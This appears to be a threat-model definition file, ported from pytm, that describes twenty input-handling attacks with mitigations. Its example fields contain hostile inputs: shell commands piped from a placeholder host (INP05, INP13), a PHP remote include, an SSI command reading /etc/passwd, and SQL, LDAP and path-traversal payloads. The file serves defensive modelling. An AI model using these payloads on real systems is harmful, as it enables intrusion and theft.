// Input-handling threats, part 1: INP01 to INP20 of pytm's library.
// Memory-corruption, injection and parsing attacks that succeed when an
// element trusts the size, syntax or declared type of the data it receives.

threat INP01 "Buffer Overflow via Environment Variables" {
  targets = [Lambda, Process]
  severity = High
  likelihood = High
  when = target.usesEnvironmentVariables
         and not target.controls.sanitizesInput
         and not target.controls.checksInputBounds
  capec = [10]
  cwe = [120, 119, 680]
  details = """
    Programs often read environment variables such as HOME, TERM, LANG or
    custom configuration settings and copy their values into fixed-size
    buffers, assuming that whoever set up the environment is trustworthy.
    An attacker who can influence that environment, for example a local user
    starting a setuid program or someone allowed to edit a function's
    deployment settings, can put an oversized or crafted value into one of
    these variables. When the code copies the value without checking its
    length, the write runs past the end of the buffer and corrupts adjacent
    memory. The result ranges from a crash to the attacker running code with
    the privileges of the process.
    """
  prerequisites = """
    The element reads at least one environment variable whose value an
    attacker can set or influence, and copies that value into memory without
    checking its size.
    """
  mitigations = """
    Treat every environment variable as untrusted input: check its length
    and format before use, and fall back to a safe default when it is
    malformed. Handle these values in a memory-safe language, or with
    bounds-checked copy functions in native code. When starting privileged
    programs, clear the inherited environment and set only the variables
    they need, and do not let less-trusted users or systems change the
    environment of this element. Include long and malformed variable values
    in fuzz tests. Once such checks exist, set
    `controls.checksInputBounds = true` or `controls.sanitizesInput = true`.
    """
  example = """
    A native helper called by a serverless function copies the CONFIG_PATH
    environment variable into a 256-byte buffer. A developer account with
    permission to edit the function's settings is compromised, the variable
    is set to a long crafted string, and the helper executes the attacker's
    payload on the next invocation.
    """
  references = [
    "https://capec.mitre.org/data/definitions/10.html",
    "https://www.cve.org/CVERecord?id=CVE-1999-0906",
    "https://www.cve.org/CVERecord?id=CVE-1999-0046",
    "https://cwe.mitre.org/data/definitions/120.html",
    "https://cwe.mitre.org/data/definitions/119.html",
    "https://cwe.mitre.org/data/definitions/680.html",
  ]
}

threat INP02 "Overflow Buffers" {
  targets = [Process]
  severity = VeryHigh
  likelihood = High
  when = not target.controls.checksInputBounds
  capec = [100]
  cwe = [120, 119, 680]
  details = """
    A buffer overflow happens when a program writes more data into a region
    of memory than was reserved for it, because the length of the input was
    never compared with the size of the destination. In native code the
    extra bytes overwrite whatever lies next to the buffer: other variables,
    heap bookkeeping, saved return addresses or function pointers. An
    attacker who controls the input can use this to crash the process or,
    by shaping the overflowing bytes, to send execution into code of their
    choosing. Processes written in C or C++ that parse network messages,
    files or command-line arguments are the usual victims.
    """
  prerequisites = """
    The process copies attacker-influenced input into fixed-size buffers
    without first checking the input's length against the buffer's size.
    """
  mitigations = """
    Compare the length of every input with the size of the destination
    before copying, and reject anything that does not fit. Write new
    components in a memory-safe language, and in C or C++ replace unbounded
    functions such as strcpy, sprintf and gets with bounded alternatives.
    Build with stack protectors and run on platforms with ASLR and
    non-executable memory; these raise the cost of exploitation but do not
    remove the bug. Use static analysis and fuzzing to find unchecked copies
    before release. Set `controls.checksInputBounds = true` once bounds
    checking is applied consistently.
    """
  example = """
    An image converter reads the row width from an uploaded file's header
    and copies that many bytes into a 4 KB row buffer. A crafted file that
    declares a far larger width overwrites the saved return address, and the
    converter jumps into the attacker's payload.
    """
  references = [
    "https://capec.mitre.org/data/definitions/100.html",
    "https://cwe.mitre.org/data/definitions/120.html",
    "https://cwe.mitre.org/data/definitions/119.html",
    "https://cwe.mitre.org/data/definitions/680.html",
  ]
}

threat INP03 "Server Side Include (SSI) Injection" {
  targets = [Server]
  severity = High
  likelihood = High
  when = not target.controls.sanitizesInput or not target.controls.encodesOutput
  capec = [101]
  cwe = [97, 74, 20, 713]
  details = """
    Server Side Includes are directives embedded in HTML comments, such as
    `<!--#exec cmd="..." -->` or `<!--#include virtual="..." -->`, which the
    web server evaluates before it sends a page. If SSI is enabled and text
    supplied by users ends up in a page the server processes, an attacker
    can hide such directives in that text. The server then carries them out
    with its own privileges: pulling local files such as configuration or
    password files into the response, printing environment variables, or
    running shell commands. The directive language is small, but the exec
    directive alone is usually enough to take over the host.
    """
  prerequisites = """
    The server has SSI processing enabled for pages that can contain
    user-controlled text, and that text is neither cleaned of SSI syntax nor
    encoded before it is written into the page.
    """
  mitigations = """
    Turn SSI off wherever it is not needed, and where it is needed forbid
    the exec directive (for Apache, `Options IncludesNOEXEC`). Never store
    user-supplied content in files or directories the server parses for
    includes. Strip or reject SSI directive syntax in input, and HTML-encode
    user data when writing it into pages so that `<!--#` cannot appear
    literally. Set `controls.sanitizesInput = true` and
    `controls.encodesOutput = true` once both measures are in place.
    """
  example = """
    A guestbook appends visitor comments to an .shtml page. A visitor posts
    a comment containing `<!--#exec cmd="cat /etc/passwd" -->`, and from then
    on everyone who opens the guestbook sees the server's account list where
    the comment should be.
    """
  references = [
    "https://capec.mitre.org/data/definitions/101.html",
    "https://cwe.mitre.org/data/definitions/97.html",
    "https://cwe.mitre.org/data/definitions/74.html",
    "https://cwe.mitre.org/data/definitions/20.html",
    "https://cwe.mitre.org/data/definitions/713.html",
  ]
}

threat INP04 "HTTP Request Splitting" {
  targets = [Server]
  severity = High
  likelihood = Medium
  when = (not target.controls.validatesInput or not target.controls.validatesHeaders)
         and target.protocol == "HTTP"
  capec = [105]
  cwe = [436, 444]
  details = """
    When a request passes through several HTTP processors, such as a CDN,
    a load balancer or reverse proxy and then the application server, each
    one must decide where that request ends and the next one begins. If they
    disagree, for instance because the message carries two Content-Length
    headers, both Content-Length and a chunked Transfer-Encoding, or odd line
    endings, an attacker can craft one message that the front end sees as a
    single request and the back end sees as two. The hidden second request
    is then handled as though it belonged to the next user on the same
    connection, or slips past checks that only the front end applies.
    Consequences include cache poisoning, session hijacking, cross-site
    scripting against other users and bypassing web application firewalls.
    """
  prerequisites = """
    The server speaks plain HTTP behind or in front of another HTTP parser,
    and accepts requests with malformed or ambiguous headers instead of
    rejecting them.
    """
  mitigations = """
    Reject requests with conflicting or duplicated length headers, invalid
    chunk encoding or stray carriage returns and line feeds, rather than
    trying to repair them. Make the front end and back end follow the same
    strict parsing rules, ideally the same HTTP implementation, and use
    HTTP/2 end to end where possible. Keep proxies and servers patched,
    since many smuggling flaws are specific to one parser. If the components
    cannot be made to agree, stop reusing back-end connections across
    different clients. Set `controls.validatesInput = true` and
    `controls.validatesHeaders = true` once requests are validated strictly.
    """
  example = """
    A reverse proxy trusts Content-Length while the application server
    behind it trusts Transfer-Encoding. An attacker sends one request whose
    chunked body ends with a complete `GET /admin` request; the proxy
    forwards it as a single message, the server treats the tail as a new
    request, and its response is delivered to whichever user sends the next
    request over that connection.
    """
  references = [
    "https://capec.mitre.org/data/definitions/105.html",
    "https://cwe.mitre.org/data/definitions/436.html",
    "https://cwe.mitre.org/data/definitions/444.html",
  ]
}

threat INP05 "Command Line Execution through SQL Injection" {
  targets = [Server]
  severity = VeryHigh
  likelihood = Low
  when = not target.controls.validatesInput
  capec = [108]
  cwe = [89, 74, 20, 78, 114]
  details = """
    Here SQL injection is used as a stepping stone towards running operating
    system commands. The attacker either injects SQL that calls a database
    feature able to start programs, such as SQL Server's xp_cmdshell, or
    plants values in the database that a back-end job later reads and places
    on a command line without checking them. In both cases data moves from
    the query layer into a shell, where characters such as `;`, `|` or
    backticks start new commands. Those commands run with the rights of the
    database service or of the back-end job, giving the attacker a foothold
    on the host itself.
    """
  prerequisites = """
    Input reaches SQL statements without validation, and either the database
    can execute commands or some component later uses stored values as
    command-line arguments.
    """
  mitigations = """
    Validate input before it is written to the database, and use
    parameterised queries so that it cannot alter query structure. Disable
    command-execution features of the database such as xp_cmdshell, and run
    the database service under an account with minimal operating-system
    rights. Treat values read back from the database as untrusted: check
    them again before using them in a command, and pass arguments to
    programs as a list instead of through a shell. Set
    `controls.validatesInput = true` once input validation is in place.
    """
  example = """
    A monitoring tool keeps a table of host names, and a nightly script runs
    `ping` on each one through the shell. Through an SQL injection flaw in
    the tool's search box, an attacker changes one host name to
    `example.org; curl evil.test/x | sh`, and that night the script
    downloads and runs the attacker's program on the monitoring server.
    """
  references = [
    "https://capec.mitre.org/data/definitions/108.html",
    "https://cwe.mitre.org/data/definitions/89.html",
    "https://cwe.mitre.org/data/definitions/74.html",
    "https://cwe.mitre.org/data/definitions/20.html",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://cwe.mitre.org/data/definitions/114.html",
  ]
}

threat INP06 "SQL Injection through SOAP Parameter Tampering" {
  targets = [Server]
  severity = VeryHigh
  likelihood = High
  when = target.protocol == "SOAP"
         and (not target.controls.sanitizesInput or not target.controls.validatesInput)
  capec = [110]
  cwe = [89, 20]
  details = """
    A SOAP consumer sends an XML envelope whose elements carry the
    parameters of the requested operation. An attacker who crafts or
    intercepts these messages changes parameter values so that they contain
    SQL syntax: quotes, comment markers or extra clauses. If the service
    pulls out the values and concatenates them into SQL statements, the
    attacker's text becomes part of the query and can read, change or delete
    data well beyond what the operation was meant to allow. The SOAP layer
    gives no protection by itself, since schema checks usually confirm only
    that a value is a string, not that it is safe inside a query.
    """
  prerequisites = """
    The server exposes SOAP operations whose parameters are used to build
    SQL statements by string concatenation, without validating or cleaning
    them first.
    """
  mitigations = """
    Validate every SOAP parameter against a tight schema covering type,
    length and permitted characters, and reject messages that do not
    conform. Build all queries with prepared statements or stored procedures
    that bind parameters, never by joining strings. Give the service's
    database account only the rights its operations need, and let it query
    views rather than base tables where practical. Set
    `controls.validatesInput = true` and `controls.sanitizesInput = true`
    once both are applied to SOAP input.
    """
  example = """
    An inventory service offers a GetStock operation with an itemCode
    element. An attacker sends the itemCode
    `X' UNION SELECT username, password FROM users --`, and the reply lists
    account credentials instead of stock levels.
    """
  references = [
    "https://capec.mitre.org/data/definitions/110.html",
    "https://cwe.mitre.org/data/definitions/89.html",
    "https://cwe.mitre.org/data/definitions/20.html",
  ]
}

threat INP07 "Buffer Manipulation" {
  targets = [Process]
  severity = VeryHigh
  likelihood = High
  when = not target.controls.usesSecureFunctions
  capec = [123]
  cwe = [119]
  details = """
    Buffer manipulation covers attacks aimed at a region of memory itself
    rather than at how its contents are interpreted. By supplying more data
    than a buffer can hold, or asking for more data than it contains, the
    attacker makes the program write over or read out the memory next to
    it. Reading past the end can leak keys, session data or pointers that
    defeat address randomisation; writing past the end can corrupt program
    state or hijack execution. These flaws usually come from unchecked calls
    such as memcpy, strcpy or sprintf in native code.
    """
  prerequisites = """
    The process, typically written in C or C++, passes attacker-influenced
    data or lengths to memory functions that do not enforce buffer limits.
    """
  mitigations = """
    Replace unbounded functions with bounded, checked ones such as snprintf
    and strlcpy, and ban the unsafe ones through compiler warnings or lint
    rules. Prefer memory-safe languages for new components that handle
    untrusted data. Check any length taken from input against the real size
    of the buffer it describes. Enable compiler hardening such as stack
    protectors and source fortification, and keep ASLR and non-executable
    memory turned on as a second line of defence. Set
    `controls.usesSecureFunctions = true` once unsafe calls are gone from
    the code base.
    """
  example = """
    A protocol handler answers keep-alive messages by echoing back as many
    bytes as the client claims to have sent. A client that claims 64 KB but
    sends one byte receives a slice of process memory holding other users'
    session cookies and private key material.
    """
  references = [
    "https://capec.mitre.org/data/definitions/123.html",
    "https://cwe.mitre.org/data/definitions/119.html",
  ]
}

threat INP08 "Format String Injection" {
  targets = [Lambda, Process, Server]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [135]
  cwe = [134, 133]
  details = """
    Functions such as printf, syslog or String.format treat sequences like
    `%s`, `%x` and `%n` in their format argument as instructions. If a
    program passes user-supplied text as the format rather than as data, an
    attacker can embed these sequences in the input. `%x` and `%s` make the
    function read values from the stack or from arbitrary addresses, which
    discloses memory; `%n` writes a count to an address, which can be aimed
    at return addresses or function pointers. Even in memory-safe languages,
    injected specifiers can raise exceptions or change the text produced.
    """
  prerequisites = """
    The element passes strings containing user input as the format argument
    of a formatting or logging function, without removing format specifiers.
    """
  mitigations = """
    Always use a constant format string and pass user data as an argument,
    for example `printf("%s", name)` instead of `printf(name)`. Turn on
    compiler warnings for non-literal format strings, such as
    -Wformat-security, and treat them as errors. Validate input and reject or
    escape `%` sequences wherever text must flow into a formatting function.
    Set `controls.validatesInput = true` and `controls.sanitizesInput = true`
    once input is both checked and cleaned.
    """
  example = """
    A daemon records failed logins with `syslog(LOG_WARNING, username)`. An
    attacker tries to log in as `%x%x%x%x%n`, which dumps stack contents into
    the log and writes to memory, crashing the daemon and, with some tuning,
    taking control of it.
    """
  references = [
    "https://capec.mitre.org/data/definitions/135.html",
    "https://cwe.mitre.org/data/definitions/134.html",
    "https://cwe.mitre.org/data/definitions/133.html",
  ]
}

threat INP09 "LDAP Injection" {
  targets = [Server]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput
  capec = [136]
  cwe = [77, 90, 20]
  details = """
    Applications that log users in or look up directory entries often build
    LDAP search filters by inserting user input into a template such as
    `(&(uid=USER)(objectClass=person))`. Characters like `*`, `(`, `)`, `&`
    and `|` have special meaning in filter syntax, so an attacker who
    supplies them can change the logic of the filter. A wildcard can match
    every entry, an extra clause can make a password check always succeed,
    and added conditions can reveal hidden attribute values one character at
    a time. The effect resembles SQL injection, but the target is the
    directory that typically holds accounts, groups and credentials.
    """
  prerequisites = """
    The server places user-controlled strings into LDAP filters or
    distinguished names without validating them or escaping the characters
    that are special in LDAP syntax.
    """
  mitigations = """
    Validate input against what the field should hold (for a user name, a
    short set of allowed characters) and reject everything else. Escape LDAP
    special characters in every value placed in a filter or distinguished
    name, using the escaping helper of your LDAP library. Bind to the
    directory with an account that can read only the attributes the
    application needs. Return generic error messages so failed searches
    reveal nothing about the directory's layout. Set
    `controls.validatesInput = true` once validation is applied.
    """
  example = """
    A login form searches for `(&(uid=USER)(userPassword=PASS))`. Entering
    `admin)(|(uid=*` as the user name and any password yields a filter that
    matches the admin entry whatever the password is, so the attacker is
    signed in as admin.
    """
  references = [
    "https://capec.mitre.org/data/definitions/136.html",
    "https://cwe.mitre.org/data/definitions/77.html",
    "https://cwe.mitre.org/data/definitions/90.html",
    "https://cwe.mitre.org/data/definitions/20.html",
  ]
}

threat INP10 "Parameter Injection" {
  targets = [Server]
  severity = Medium
  likelihood = Medium
  when = not target.controls.validatesInput
  capec = [137]
  cwe = [88]
  details = """
    Many encodings separate parameters with ordinary characters: `&` and `=`
    in query strings and form bodies, spaces in command lines, delimiters in
    home-grown message formats. When an application copies user input into
    such an encoded string without escaping the separators, an attacker can
    include them in the input and so add new parameters or override existing
    ones. The component that later parses the string cannot tell intended
    parameters from injected ones. This can change prices, switch on flags
    such as an admin marker, redirect callbacks or, with command lines, add
    dangerous options to a program invocation.
    """
  prerequisites = """
    The server inserts user input into a text-based parameter encoding
    without escaping its separators, and hands the result to another
    component that parses it.
    """
  mitigations = """
    Build parameter strings with library functions that encode each value,
    such as URL-encoding query values or passing process arguments as an
    array, never by concatenation. Validate each input against its expected
    format and reject separators where they have no business. Make the
    receiving component refuse duplicated parameters instead of silently
    taking the first or last one. Record security-relevant requests in an
    audit log kept on a separate host so that abuse can be traced. Set
    `controls.validatesInput = true` once user input is validated before
    use.
    """
  example = """
    A checkout page passes the customer's order note to a payment gateway in
    a query string built by concatenation. A note of `thanks&amount=1` adds a
    second amount parameter, and the gateway, which uses the last value,
    charges one unit instead of the real total.
    """
  references = [
    "https://capec.mitre.org/data/definitions/137.html",
    "https://cwe.mitre.org/data/definitions/88.html",
  ]
}

threat INP11 "Relative Path Traversal" {
  targets = [Server]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput or not target.controls.sanitizesInput
  capec = [139]
  cwe = [23]
  details = """
    When a server builds a file path by joining a base directory with a name
    taken from the request, an attacker can supply a name containing `../`
    sequences to climb out of the intended directory. With enough of them,
    the path can reach any file the server process may read, such as
    configuration, source code, keys or system account files, and sometimes
    files it may write. Filters that simply delete `../` are often bypassed
    with URL encoding such as `%2e%2e%2f`, double encoding, Windows-style
    backslashes, or nested sequences that reassemble once the filter has
    removed the inner part.
    """
  prerequisites = """
    The server uses a user-supplied string to form a file system path and
    does not validate or normalise it so that it stays inside an allowed
    directory.
    """
  mitigations = """
    Avoid putting client input into file paths at all: map requests to files
    through an identifier or index that the server controls. If names must
    come from input, allow only a strict set of characters, decode the input
    completely, canonicalise the resulting path and confirm that it still
    lies under the intended base directory. Give the server process file
    permissions only on the directories it needs. Set
    `controls.validatesInput = true` and `controls.sanitizesInput = true`
    once both are implemented.
    """
  example = """
    A document service answers `/download?file=report.pdf` from /srv/docs
    and rejects names containing `../`, but it decodes the name only after
    that check. Requesting `/download?file=..%2f..%2f..%2fetc%2fshadow`
    returns the host's password hash file.
    """
  references = [
    "https://capec.mitre.org/data/definitions/139.html",
    "https://cwe.mitre.org/data/definitions/23.html",
  ]
}

threat INP12 "Client-side Injection-induced Buffer Overflow" {
  targets = [Lambda, Process]
  severity = High
  likelihood = Medium
  when = not target.controls.checksInputBounds and not target.controls.validatesInput
  capec = [14]
  cwe = [74, 353]
  details = """
    In this attack the adversary sits on the server side of a connection:
    they run, or take over, a service that the target connects to as a
    client, and answer with responses built to overflow a buffer in the
    client's parsing code. Client code is often written on the assumption
    that the servers it talks to behave well, so lengths in their responses
    are trusted and copied without checks. A malicious web page, API reply,
    update feed or protocol message can then corrupt the client's memory.
    The outcome is a crash or code execution inside the client, reaching
    components that accept no inbound connections at all.
    """
  prerequisites = """
    The element acts as a client of outside services that an attacker could
    control or impersonate, and it copies data from their responses into
    buffers without checking sizes.
    """
  mitigations = """
    Treat responses from remote services as untrusted input: validate their
    structure and check every length against the buffer it will fill.
    Connect only to authenticated endpoints, for example over TLS with
    certificate validation, so that an attacker cannot easily pose as the
    real service. Parse responses with memory-safe code or well-tested
    libraries, keep client components patched, and fuzz them with malformed
    replies. Set `controls.checksInputBounds = true` or
    `controls.validatesInput = true` once responses are checked.
    """
  example = """
    A worker written in C fetches exchange rates from a partner API and
    copies the currency name from each reply into a 16-byte field. After the
    partner's domain is hijacked, a fake API returns a currency name several
    kilobytes long, which overflows the field and runs code inside the
    worker.
    """
  references = [
    "https://capec.mitre.org/data/definitions/14.html",
    "https://cwe.mitre.org/data/definitions/74.html",
    "https://cwe.mitre.org/data/definitions/353.html",
  ]
}

threat INP13 "Command Delimiters" {
  targets = [Lambda, Process]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput
  capec = [15]
  cwe = [146, 77, 157, 154]
  details = """
    When an application builds a command for a shell, a database, a
    directory server or another interpreter by inserting user input into it,
    any character that ends one command and starts another becomes
    dangerous: `;`, `&&`, `|` and line breaks for shells, `;` for many SQL
    dialects. An attacker appends such a delimiter followed by commands of
    their own, which then run with the application's privileges against the
    file system, databases or other hosts. Deny-list filters that strip a
    few known delimiters are routinely defeated with alternatives the filter
    did not anticipate, other encodings or combinations of characters.
    """
  prerequisites = """
    The element builds commands or queries from input, and its validation
    relies on rejecting known-bad characters rather than accepting only
    known-good input.
    """
  mitigations = """
    Validate input against an allow-list that states exactly which
    characters, lengths and values are acceptable, instead of trying to
    block every delimiter. Avoid passing input through an interpreter at
    all: start programs with argument arrays rather than a shell, and use
    parameterised queries for databases and directories. Run the element
    with the least privilege it needs, so that an injected command can do
    little harm. Set `controls.validatesInput = true` once allow-list
    validation is in place.
    """
  example = """
    A function converts uploaded images by running `convert NAME out.png`
    through a shell. An attacker uploads a file named
    `a.jpg; curl evil.test/s | sh`, and the function downloads and executes
    a script with the permissions of its cloud role.
    """
  references = [
    "https://capec.mitre.org/data/definitions/15.html",
    "https://cwe.mitre.org/data/definitions/146.html",
    "https://cwe.mitre.org/data/definitions/77.html",
    "https://cwe.mitre.org/data/definitions/157.html",
    "https://cwe.mitre.org/data/definitions/154.html",
  ]
}

threat INP14 "Input Data Manipulation" {
  targets = [Process, Lambda, Server]
  severity = Medium
  when = not target.controls.validatesInput
  capec = [153]
  cwe = [20]
  details = """
    Rather than altering what the input says, the attacker alters its
    form: the character encoding, structure, file extension, declared
    content type or other markers that tell the target how to process it. If
    the target trusts these markers, it may choose a different parser,
    decoder or handler than intended, or run its security checks on one
    interpretation of the data while using another. Typical results are
    filters bypassed through alternative encodings, files handled as a more
    dangerous type, and parsers pushed into code paths never meant for
    outside data.
    """
  prerequisites = """
    The element decides how to process input from properties of the input
    that the attacker can set, such as its declared format, encoding or file
    extension.
    """
  mitigations = """
    Validate input for type, length, range, format and encoding before
    acting on it, and decode it into one canonical form before any security
    check. Decide how to handle data from its verified content and the
    context of the request, not from labels supplied by the sender. Reject
    input whose declared format differs from what the endpoint expects. Set
    `controls.validatesInput = true` once such validation is in place.
    """
  example = """
    An upload endpoint refuses files ending in .php but passes files ending
    in .phtml to the same interpreter. An attacker uploads shell.phtml,
    requests it, and runs their own code on the server.
    """
  references = [
    "https://capec.mitre.org/data/definitions/153.html",
    "https://cwe.mitre.org/data/definitions/20.html",
  ]
}

threat INP15 "IMAP/SMTP Command Injection" {
  targets = [Server]
  severity = Medium
  when = (target.protocol == "IMAP" or target.protocol == "SMTP")
         and not target.controls.sanitizesInput
  capec = [183]
  cwe = [77]
  details = """
    Webmail front ends and other mail-sending applications turn user actions
    into IMAP or SMTP commands sent to a mail server behind them. If fields
    such as a mailbox name, message number or address are placed into these
    commands without cleaning, an attacker can insert a line break followed
    by extra protocol commands. The mail server executes them within the
    application's session, which may let the attacker read or delete other
    mailboxes, relay spam or probe the internal server. Because the back-end
    mail server is usually not reachable from the internet, it tends to be
    less hardened, which makes this indirect route attractive.
    """
  prerequisites = """
    The server passes user-supplied values into IMAP or SMTP commands
    without removing or rejecting line breaks and other protocol syntax.
    """
  mitigations = """
    Reject carriage returns, line feeds and other protocol metacharacters in
    every value that ends up in a mail command, and check fields such as
    message numbers against their expected format. Use a mail library that
    quotes or literal-encodes arguments instead of assembling command lines
    by hand. Harden the back-end mail server as if it were exposed, and give
    the front end only the mail rights it needs. Set
    `controls.sanitizesInput = true` once inputs are cleaned before they
    reach mail commands.
    """
  example = """
    A contact form inserts the visitor's address into `MAIL FROM:<...>` on
    its own SMTP connection. By adding an encoded line break followed by
    further RCPT TO and DATA commands to the address, an attacker makes the
    company's relay deliver spam to thousands of recipients.
    """
  references = [
    "https://capec.mitre.org/data/definitions/183.html",
    "https://cwe.mitre.org/data/definitions/77.html",
  ]
}

threat INP16 "PHP Remote File Inclusion" {
  targets = [Server]
  severity = High
  likelihood = High
  when = not target.controls.validatesInput
  capec = [193]
  cwe = [98, 80, 714]
  details = """
    PHP's include and require statements load another file and execute it
    as code. When the file name is taken partly from a request parameter and
    the runtime accepts URLs in these statements (allow_url_include), an
    attacker can point the parameter at a script on a server they control.
    PHP fetches that script and runs it inside the application, with full
    access to its data, its credentials and the host. Even when remote URLs
    are disabled, the same flaw often lets local files or stream wrappers
    such as php://input and data:// be included, with similar results.
    """
  prerequisites = """
    The server runs PHP code that builds include or require paths from
    request data, and its configuration lets those paths refer to content
    the attacker controls.
    """
  mitigations = """
    Never build include paths from user input; map request values to a fixed
    list of permitted files instead. Set `allow_url_include = Off`, and
    where possible `allow_url_fopen = Off`, in php.ini. Validate any value
    that selects a file against an allow-list of names, rejecting path
    separators and scheme prefixes. Restrict the directories PHP may read
    with open_basedir. Set `controls.validatesInput = true` once input is
    validated.
    """
  example = """
    A site chooses its page template with `include($_GET['page'] . '.php')`.
    An attacker requests `?page=http://evil.test/shell`, and the server
    downloads the attacker's script and executes it, handing them a remote
    shell.
    """
  references = [
    "https://capec.mitre.org/data/definitions/193.html",
    "https://cwe.mitre.org/data/definitions/98.html",
    "https://cwe.mitre.org/data/definitions/80.html",
    "https://cwe.mitre.org/data/definitions/714.html",
  ]
}

threat INP17 "XSS Using MIME Type Mismatch" {
  targets = [Server]
  severity = Medium
  likelihood = Medium
  when = not target.controls.validatesContentType or not target.controls.invokesScriptFilters
  cwe = [79, 20, 646]
  details = """
    Some browsers ignore the content type a server declares and guess the
    type from the bytes of the response instead, a behaviour known as MIME
    sniffing. An attacker who can get a file onto the server, for example an
    upload labelled as plain text or as an image, can fill it with HTML or
    JavaScript. When a victim is lured to the file's URL, a sniffing browser
    renders it as a page and runs the script in the site's origin, where it
    can read cookies and act as the user. Script filters that skipped the
    file because its declared type looked harmless never see the script.
    """
  prerequisites = """
    The server delivers content whose declared type differs from its real
    content, without protection against sniffing or script filtering, and a
    victim opens a link to that content.
    """
  mitigations = """
    Check uploaded files against their actual content, not only their
    extension or declared type, and reject mismatches. Serve every response
    with an accurate Content-Type and the header
    `X-Content-Type-Options: nosniff`. Host user-supplied files on a
    separate domain that carries no session cookies, or send them with
    `Content-Disposition: attachment`. Apply script filtering or a strict
    Content Security Policy to content that may contain markup. Set
    `controls.validatesContentType = true` and
    `controls.invokesScriptFilters = true` once both are in place.
    """
  example = """
    A forum accepts avatar uploads and serves them as image/png. An attacker
    uploads a file that is really an HTML page with a script and posts a
    link to it; browsers that sniff content render it as HTML, and the
    script sends each visitor's session cookie to the attacker.
    """
  references = [
    "https://cwe.mitre.org/data/definitions/79.html",
    "https://cwe.mitre.org/data/definitions/20.html",
    "https://cwe.mitre.org/data/definitions/646.html",
  ]
}

threat INP18 "Fuzzing and observing application log data/errors for application mapping" {
  targets = [Server]
  severity = Low
  likelihood = High
  when = not target.controls.sanitizesInput or not target.controls.encodesOutput
  capec = [215]
  cwe = [209, 532]
  details = """
    The attacker sends the server large numbers of malformed, oversized or
    unexpected requests and studies what comes back, or what appears in any
    logs they can reach. Verbose error pages, stack traces, database error
    text and varying status codes reveal internal details: frameworks and
    versions, file paths, table names, query structure and which inputs
    reach which components. The attacker uses this map to choose and tune
    further attacks such as injection or path traversal. As a side effect,
    the flood of bad input may also destabilise or crash the application.
    """
  prerequisites = """
    The server processes malformed input instead of rejecting it cleanly,
    and its error responses or readable logs expose internal details.
    """
  mitigations = """
    Return generic error messages carrying only a reference number, and keep
    detailed diagnostics in server-side logs that outsiders cannot read.
    Turn off debug modes, stack traces and framework banners in production,
    and remove version information from headers such as Server and
    X-Powered-By. Clean input so that malformed requests are rejected early
    and uniformly. Rate-limit and alert on bursts of failing requests, a
    typical sign of fuzzing. Set `controls.sanitizesInput = true` and
    `controls.encodesOutput = true` once input is cleaned and error output
    is encoded safely.
    """
  example = """
    Putting a single quote into a search parameter makes an API return a 500
    page showing the full SQL statement and the path of the module that ran
    it. The attacker now knows the database engine, the table layout and
    where the code lives, and builds a working SQL injection within minutes.
    """
  references = [
    "https://capec.mitre.org/data/definitions/215.html",
    "https://cwe.mitre.org/data/definitions/209.html",
    "https://cwe.mitre.org/data/definitions/532.html",
  ]
}

// pytm's condition is "usesXMLParser is False or disablesDTD is False", so it
// also fires on servers that parse no XML; kept as is to match pytm exactly.
threat INP19 "XML External Entities Blowup" {
  targets = [Server]
  severity = Medium
  likelihood = Low
  when = not target.usesXMLParser or not target.controls.disablesDTD
  capec = [221]
  cwe = [611]
  details = """
    XML lets a document declare, in its DTD, external entities whose values
    are fetched from a URI when the entity is referenced. An attacker submits
    XML that defines such an entity pointing at a resource that is huge,
    endless or slow, such as a multi-gigabyte file, a device like
    /dev/random, or a server that trickles out data forever, and then
    references it. A parser that resolves external entities reads or
    downloads the resource and ties up memory, threads or connections until
    the server stops responding. Depending on the URI, the same mechanism
    can also expose local files or reach internal hosts.
    """
  prerequisites = """
    The server parses XML from untrusted sources with a parser that
    processes DTDs and resolves external entities.
    """
  mitigations = """
    Configure the XML parser to refuse DTDs altogether, or at least to stop
    resolving external entities and external DTDs. If external entities are
    genuinely needed, resolve them through a custom resolver that allows
    only specific local resources and enforces timeouts and size limits. Cap
    the size of XML input and the time and memory spent parsing it. Set
    `controls.disablesDTD = true` once the parser is hardened.
    """
  example = """
    A SOAP endpoint receives a document whose DTD declares an entity `big`
    with a SYSTEM URI on the attacker's server, which sends an endless
    stream of bytes. Each request that uses `&big;` holds a worker thread and
    a growing buffer, and a few dozen such requests exhaust the server's
    memory.
    """
  references = [
    "https://capec.mitre.org/data/definitions/221.html",
    "https://cwe.mitre.org/data/definitions/611.html",
  ]
}

threat INP20 "iFrame Overlay" {
  targets = [Process]
  severity = High
  likelihood = Medium
  when = not target.controls.disablesiFrames
  capec = [222]
  cwe = [1021]
  details = """
    This is a form of clickjacking. The attacker's web page loads the target
    application in an invisible or disguised frame and lines it up exactly
    over buttons or links that the victim is invited to click. A victim who
    is logged in to the target believes they are using the attacker's page,
    but their clicks land on the framed application and trigger actions
    there under their session: changing settings, approving payments,
    granting permissions or publishing content. Since every request comes
    from the victim's own browser with valid cookies, the application cannot
    tell it apart from a deliberate action.
    """
  prerequisites = """
    The application serves browser-based pages to users with active
    sessions and lets other sites embed those pages in frames.
    """
  mitigations = """
    Send `Content-Security-Policy: frame-ancestors 'none'` (or 'self') on
    every page, plus `X-Frame-Options: DENY` or SAMEORIGIN for older
    browsers. Mark session cookies SameSite=Lax or Strict so that framed
    requests from other sites carry no session. Require re-authentication or
    an explicit confirmation step for sensitive actions. Set
    `controls.disablesiFrames = true` once framing by other sites is
    blocked.
    """
  example = """
    An attacker's quiz page frames a bank's transfer confirmation page at
    zero opacity, with its Confirm button placed under the quiz's Next
    button. A customer logged in to the bank in another tab clicks Next and
    unknowingly approves a transfer to the attacker.
    """
  references = [
    "https://capec.mitre.org/data/definitions/222.html",
    "https://cwe.mitre.org/data/definitions/1021.html",
  ]
}
